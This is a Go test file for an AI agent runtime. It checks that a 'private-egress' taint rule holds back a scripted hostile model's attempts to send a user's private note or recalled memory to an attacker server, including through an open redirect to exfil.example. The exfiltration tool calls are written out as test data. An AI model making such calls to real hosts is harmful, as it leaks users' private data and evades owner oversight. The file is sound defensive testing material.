package app

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/homard/homard/internal/channel"
	"github.com/homard/homard/internal/llm/llmtest"
)

// Scenario tests of the private-egress rule: a hostile model that has read
// the owner's private data (ordinary text, no secret, so the
// secret-in-arguments limit does not fire) tries to send it to an
// allow-listed attacker. The attacker's TLS server is reachable (egress
// allows it and it is the web_search endpoint), so only the arbiter's
// taint rule stands between the data and it.

// privateText is what notes/private.md holds: nothing a redactor would
// recognise.
const privateText = "Dentist on Friday at 3pm, then pick up Lea from judo"

// newEgressRuntime opens a home in mode whose egress allows the attacker
// and whose web_search endpoint is the attacker; edit changes the rest of
// config.toml (nil for nothing).
func newEgressRuntime(t *testing.T, mode string, attacker *recorder, edit func(string) string) *Runtime {
	t.Helper()
	return newModeRuntime(t, mode, func(s string) string {
		s = attackerEgress(s, attacker)
		if edit != nil {
			s = edit(s)
		}
		return s
	}, Options{EgressTLS: attacker.Client().Transport.(*http.Transport).TLSClientConfig})
}

func attackerEgress(s string, attacker *recorder) string {
	i := strings.Index(s, "[egress]")
	s = s[:i] + strings.Replace(s[i:], "allow = []", fmt.Sprintf("allow = [%q]", attacker.URL), 1)
	return strings.Replace(s, "https://www.bing.com/search?format=rss&q={query}", attacker.URL+"/rss?q={query}", 1)
}

// reopenEgress closes r and opens its home again: nothing survives but
// what is on disk.
func reopenEgress(t *testing.T, r *Runtime, attacker *recorder) *Runtime {
	t.Helper()
	base, key := r.Config.Model.BaseURL, r.Config.Model.APIKeyEnv
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	r2, err := Open(context.Background(), r.Paths, Options{EgressTLS: attacker.Client().Transport.(*http.Transport).TLSClientConfig})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r2.Close() })
	r2.Config.Model.Provider, r2.Config.Model.BaseURL, r2.Config.Model.APIKeyEnv = "openai", base, key
	r2.Config.Memory.Capture = "off"
	return r2
}

type proposal struct{ tool, args string }

// exfil is the outbound call a hostile model makes with what it read.
func exfil(tool string, attacker *recorder) proposal {
	if tool == "web_search" {
		return proposal{"web_search", `{"query":` + mustQuote(privateText) + `}`}
	}
	return proposal{"http_get", `{"url":"` + attacker.URL + `/?q=` + url.QueryEscape(privateText) + `"}`}
}

// script answers each proposal with one tool call, then a final answer.
func script(calls ...proposal) []llmtest.Reply {
	var replies []llmtest.Reply
	for i, c := range calls {
		replies = append(replies, openAI(toolCall(fmt.Sprintf("call_%d", i), c.tool, c.args)))
	}
	return append(replies, openAI(llmtest.Turn{Text: []string{"Done."}}))
}

// turn runs one owner turn in session with the given Ask (nil: nobody
// answers, a call that needs approval stays pending) and returns the
// result and the event of every decided call.
func turn(t *testing.T, r *Runtime, session, task string, ask func(context.Context, channel.Card) (channel.Choice, error)) (channel.TurnResult, []channel.ToolEvent) {
	t.Helper()
	var outs []channel.ToolEvent
	res, err := r.Run(context.Background(), channel.TurnRequest{Text: task, Session: session, Ask: ask,
		OnTool: func(ev channel.ToolEvent) {
			if ev.Status != channel.Proposed {
				outs = append(outs, ev)
			}
		}})
	if err != nil {
		t.Fatalf("Run(%s): %v", task, err)
	}
	return res, outs
}

// wantExfilStopped checks that the last decided call is the exfiltration
// attempt, pending under taint.private-egress with the exact request on its
// card, that the attacker got nothing, and that the audit trail says so.
func wantExfilStopped(t *testing.T, r *Runtime, attacker *recorder, res channel.TurnResult, outs []channel.ToolEvent, try proposal) {
	t.Helper()
	if n := attacker.hits.Load(); n != 0 {
		t.Errorf("the attacker got %d requests; want 0", n)
	}
	if len(outs) == 0 {
		t.Fatal("no call was decided")
	}
	last := outs[len(outs)-1]
	if last.Status != "pending" || last.Rule != "taint.private-egress" || last.ApprovalID == "" {
		t.Fatalf("%s = %s (%s: %s); want pending by taint.private-egress", try.tool, last.Status, last.Rule, last.Reason)
	}
	if !slices.Contains(res.Pending, last.ApprovalID) {
		t.Errorf("channel.TurnResult.Pending = %v; want it to hold %s", res.Pending, last.ApprovalID)
	}
	// The card shows the exact request the owner would release.
	ap, err := r.Owner.Approval(context.Background(), last.ApprovalID)
	if err != nil {
		t.Fatal(err)
	}
	wantShown := url.QueryEscape(privateText)
	if try.tool == "web_search" {
		wantShown = privateText
	}
	if ap.Tool != try.tool || !strings.Contains(ap.Display, wantShown) || ap.Rule != "taint.private-egress" ||
		!strings.Contains(ap.Reason, "private data") {
		t.Errorf("approval %s shows %s %q (%s: %s); want %s with %q, asked by taint.private-egress",
			ap.ID, ap.Tool, ap.Display, ap.Rule, ap.Reason, try.tool, wantShown)
	}
	recs := auditSince(t, r, 0)
	rec := recs[len(recs)-1]
	if rec.Tool != try.tool || rec.Decision != "pending" || rec.Rule != "taint.private-egress" || rec.ApprovalID != last.ApprovalID {
		t.Errorf("last audit record = %s %s (%s), approval %s; want %s pending by taint.private-egress, %s",
			rec.Tool, rec.Decision, rec.Rule, rec.ApprovalID, try.tool, last.ApprovalID)
	}
}

// TestScenarioPrivateEgress: in autopilot, read_file of a private note then
// http_get or web_search carrying its text: the request waits for the
// owner and never reaches the attacker.
func TestScenarioPrivateEgress(t *testing.T) {
	for _, tool := range []string{"http_get", "web_search"} {
		t.Run(tool, func(t *testing.T) {
			attacker := newRecorder(t, true)
			r := newEgressRuntime(t, "autopilot", attacker, nil)
			writeWorkspaceFile(t, r, "notes/private.md", privateText+"\n")
			try := exfil(tool, attacker)
			runServer(t, r, script(proposal{"read_file", `{"path":"notes/private.md"}`}, try)...)
			res, outs := turn(t, r, "cli", "tidy my notes", nil)
			if len(outs) != 2 || outs[0].Status != "ran" || !strings.Contains(outs[0].Preview, privateText) {
				t.Fatalf("outcomes = %+v; want read_file ran with the note, then the fetch", outs)
			}
			wantExfilStopped(t, r, attacker, res, outs, try)
		})
	}
}

// TestScenarioPrivateEgressAfterRestart: the taint is on disk. The read
// happens in one process; after closing and reopening the Runtime on the
// same home, the same session's fetch still waits.
func TestScenarioPrivateEgressAfterRestart(t *testing.T) {
	for _, tool := range []string{"http_get", "web_search"} {
		t.Run(tool, func(t *testing.T) {
			attacker := newRecorder(t, true)
			r := newEgressRuntime(t, "autopilot", attacker, nil)
			writeWorkspaceFile(t, r, "notes/private.md", privateText+"\n")
			try := exfil(tool, attacker)
			runServer(t, r, append(script(proposal{"read_file", `{"path":"notes/private.md"}`}), script(try)...)...)
			if _, outs := turn(t, r, "s", "read my notes", nil); len(outs) != 1 || outs[0].Status != "ran" {
				t.Fatalf("first turn = %+v; want read_file ran", outs)
			}
			r = reopenEgress(t, r, attacker)
			res, outs := turn(t, r, "s", "now look something up", nil)
			wantExfilStopped(t, r, attacker, res, outs, try)
		})
	}
}

// TestScenarioPrivateEgressFromMemory: no tool read anything; the private
// text reached the model only in the recalled-memory block. The fetch
// waits. A session whose message recalls nothing fetches unasked.
func TestScenarioPrivateEgressFromMemory(t *testing.T) {
	attacker := newRecorder(t, true)
	r := newEgressRuntime(t, "autopilot", attacker, nil)
	ctx := context.Background()
	if _, err := r.Owner.MemoryAdd(ctx, privateText, "fact", 0); err != nil {
		t.Fatal(err)
	}
	try := exfil("http_get", attacker)
	public := proposal{"http_get", `{"url":"` + attacker.URL + `/weather"}`}
	srv := runServer(t, r, append(script(try), script(public)...)...)

	res, outs := turn(t, r, "m", "when is the dentist?", nil)
	first := contents(t, srv.Requests()[0])
	if len(first) != 2 || !strings.HasPrefix(first[0], "[BEGIN_MEMORY]") || !strings.Contains(first[0], privateText) {
		t.Fatalf("first request = %q; want the memory block holding the note", first)
	}
	wantExfilStopped(t, r, attacker, res, outs, try)

	// Control: nothing recalled, nothing private, the fetch runs.
	_, outs = turn(t, r, "fresh", "good morning", nil)
	if reqs := srv.Requests(); strings.Contains(string(reqs[len(reqs)-2].Body), "BEGIN_MEMORY") {
		t.Fatal("the control turn got a memory block; it must recall nothing")
	}
	if len(outs) != 1 || outs[0].Status != "ran" || outs[0].Rule != "mode.autopilot" || attacker.hits.Load() != 1 {
		t.Fatalf("control fetch = %+v, %d hits; want it ran by mode.autopilot and reached the server", outs, attacker.hits.Load())
	}
}

// TestScenarioEgressStillRuns: what the rule leaves alone — a session that
// only touched the public web, yolo, private_egress = "allow", an operator
// allow rule — and an owner's approval of the card, which releases exactly
// that request once.
func TestScenarioEgressStillRuns(t *testing.T) {
	read := proposal{"read_file", `{"path":"notes/private.md"}`}
	cases := []struct {
		name, mode string
		edit       func(string) string
		calls      func(*recorder) []proposal
		rule       string // of the last call
	}{
		{"public session", "autopilot", nil, func(a *recorder) []proposal {
			return []proposal{{"web_search", `{"query":"oolong"}`}, {"current_time", `{}`}, exfil("http_get", a)}
		}, "mode.autopilot"},
		{"yolo", "yolo", nil, func(a *recorder) []proposal { return []proposal{read, exfil("http_get", a)} }, "mode.yolo"},
		{"private_egress allow", "autopilot", func(s string) string {
			return strings.Replace(s, `private_egress = "ask"`, `private_egress = "allow"`, 1)
		}, func(a *recorder) []proposal { return []proposal{read, exfil("http_get", a)} }, "mode.autopilot"},
		{"operator allow rule", "autopilot", func(s string) string {
			return s + "\n[[rules]]\nid = \"web\"\ntool = \"web_search\"\neffect = \"allow\"\n"
		}, func(a *recorder) []proposal { return []proposal{read, exfil("web_search", a)} }, "rule.web"},
		{"operator host rule", "autopilot", func(s string) string {
			return s + "\n[[rules]]\nid = \"lab\"\ntool = \"http_get\"\nhost = \"127.0.0.1\"\neffect = \"allow\"\n"
		}, func(a *recorder) []proposal { return []proposal{read, exfil("http_get", a)} }, "rule.lab"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			attacker := newRecorder(t, true)
			r := newEgressRuntime(t, c.mode, attacker, c.edit)
			writeWorkspaceFile(t, r, "notes/private.md", privateText+"\n")
			calls := c.calls(attacker)
			runServer(t, r, script(calls...)...)
			res, outs := turn(t, r, "cli", "go", nil)
			if len(outs) != len(calls) || len(res.Pending) != 0 {
				t.Fatalf("outcomes = %+v, pending %v; want every call decided, none pending", outs, res.Pending)
			}
			for i, out := range outs {
				if out.Status != "ran" {
					t.Errorf("%s = %s (%s: %s); want ran", calls[i].tool, out.Status, out.Rule, out.Reason)
				}
			}
			if last := outs[len(outs)-1]; last.Rule != c.rule {
				t.Errorf("last call's rule = %s; want %s", last.Rule, c.rule)
			}
			fetches := 0
			for _, p := range calls {
				if p.tool == "http_get" || p.tool == "web_search" {
					fetches++
				}
			}
			if n := attacker.hits.Load(); n != int64(fetches) {
				t.Errorf("the server got %d requests; want %d", n, fetches)
			}
		})
	}

	t.Run("approved once", func(t *testing.T) {
		attacker := newRecorder(t, true)
		r := newEgressRuntime(t, "autopilot", attacker, nil)
		writeWorkspaceFile(t, r, "notes/private.md", privateText+"\n")
		try := exfil("http_get", attacker)
		// The model proposes the request, proposes it again once the
		// owner approved (the agent does that), then tries it a third
		// time in a later answer.
		runServer(t, r, script(read, try, try)...)
		var cards []channel.Card
		ask := func(_ context.Context, c channel.Card) (channel.Choice, error) {
			cards = append(cards, c)
			if len(cards) == 1 {
				return channel.Once, nil
			}
			return channel.Leave, nil
		}
		res, outs := turn(t, r, "cli", "go", ask)
		// The rule that asked is on the pending tool events (checked below).
		if len(cards) != 2 || cards[0].Tool != "http_get" || !strings.Contains(cards[0].Plan, url.QueryEscape(privateText)) {
			t.Fatalf("cards = %+v; want two http_get cards showing the request", cards)
		}
		if n := attacker.hits.Load(); n != 1 {
			t.Fatalf("the server got %d requests; want exactly 1 (the approved one)", n)
		}
		var ran, pending int
		for _, o := range outs {
			switch {
			case o.Status == "ran" && o.Rule == "approval.once":
				ran++
			case o.Status == "pending" && o.Rule == "taint.private-egress":
				pending++
			}
		}
		// Pending twice: before the approval, and the repeat after it.
		if ran != 1 || pending != 2 || len(res.Pending) != 1 {
			t.Fatalf("outcomes = %+v, pending %v; want one run by approval.once and the repeat left pending", outs, res.Pending)
		}
	})
}

// TestOnlyClockAndWebArePublic: of the built-in tools exactly current_time,
// http_get and web_search say PublicResult; every other one taints.
func TestOnlyClockAndWebArePublic(t *testing.T) {
	r := newModeRuntime(t, "smart", nil, Options{})
	var public, private []string
	for _, s := range r.Registry.Specs() {
		if s.PublicResult {
			public = append(public, s.Name)
		} else {
			private = append(private, s.Name)
		}
	}
	if want := []string{"current_time", "http_get", "web_search"}; !slices.Equal(public, want) {
		t.Errorf("public tools = %v; want %v", public, want)
	}
	for _, name := range []string{"read_file", "list_dir", "glob", "grep", "recall", "read_artifact", "run_command",
		"write_file", "edit_file", "remember", "forget"} {
		if !slices.Contains(private, name) {
			t.Errorf("%s is not among the tainting tools %v", name, private)
		}
	}
}

// TestScenarioAllowedHostCannotRedirectTheData: the operator lets private
// sessions fetch from one host (a host rule). A hostile model sends the
// private text to that host on a URL the host redirects elsewhere (an open
// redirect, or the attacker's own server on the allowed name). The
// redirect is not followed: the model reads where it points, and fetching
// that URL is a new proposal, decided again — here, asked.
func TestScenarioAllowedHostCannotRedirectTheData(t *testing.T) {
	attacker := newRecorder(t, true)
	var hops atomic.Int64
	open := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hops.Add(1)
		http.Redirect(w, r, "https://exfil.example/c?"+r.URL.RawQuery, http.StatusFound)
	}))
	t.Cleanup(open.Close)
	r := newEgressRuntime(t, "autopilot", attacker, func(s string) string {
		i := strings.Index(s, "[egress]")
		s = s[:i] + strings.Replace(s[i:], "allow = [", fmt.Sprintf("allow = [%q, ", open.URL), 1)
		return s + "\n[[rules]]\nid = \"lab\"\ntool = \"http_get\"\nhost = \"127.0.0.1\"\neffect = \"allow\"\n"
	})
	writeWorkspaceFile(t, r, "notes/private.md", privateText+"\n")
	q := url.QueryEscape(privateText)
	via := proposal{"http_get", `{"url":"` + open.URL + `/r?q=` + q + `"}`}
	onward := proposal{"http_get", `{"url":"https://exfil.example/c?q=` + q + `"}`}
	runServer(t, r, script(proposal{"read_file", `{"path":"notes/private.md"}`}, via, onward)...)
	res, outs := turn(t, r, "cli", "tidy my notes", nil)
	if len(outs) != 3 {
		t.Fatalf("outcomes = %+v; want read, the allowed fetch, the onward fetch", outs)
	}
	if got := outs[1]; got.Status != "ran" || got.Rule != "rule.lab" || !strings.Contains(got.Preview, "redirect to another host not followed: https://exfil.example/c?q=") {
		t.Fatalf("allowed fetch = %s by %s: %q; want ran by rule.lab, the redirect reported and not followed", got.Status, got.Rule, got.Preview)
	}
	if hops.Load() != 1 {
		t.Errorf("the allowed host got %d requests; want 1", hops.Load())
	}
	if last := outs[2]; last.Status != "pending" || last.Rule != "taint.private-egress" || !slices.Contains(res.Pending, last.ApprovalID) {
		t.Fatalf("onward fetch = %s by %s; want pending by taint.private-egress", last.Status, last.Rule)
	}
}
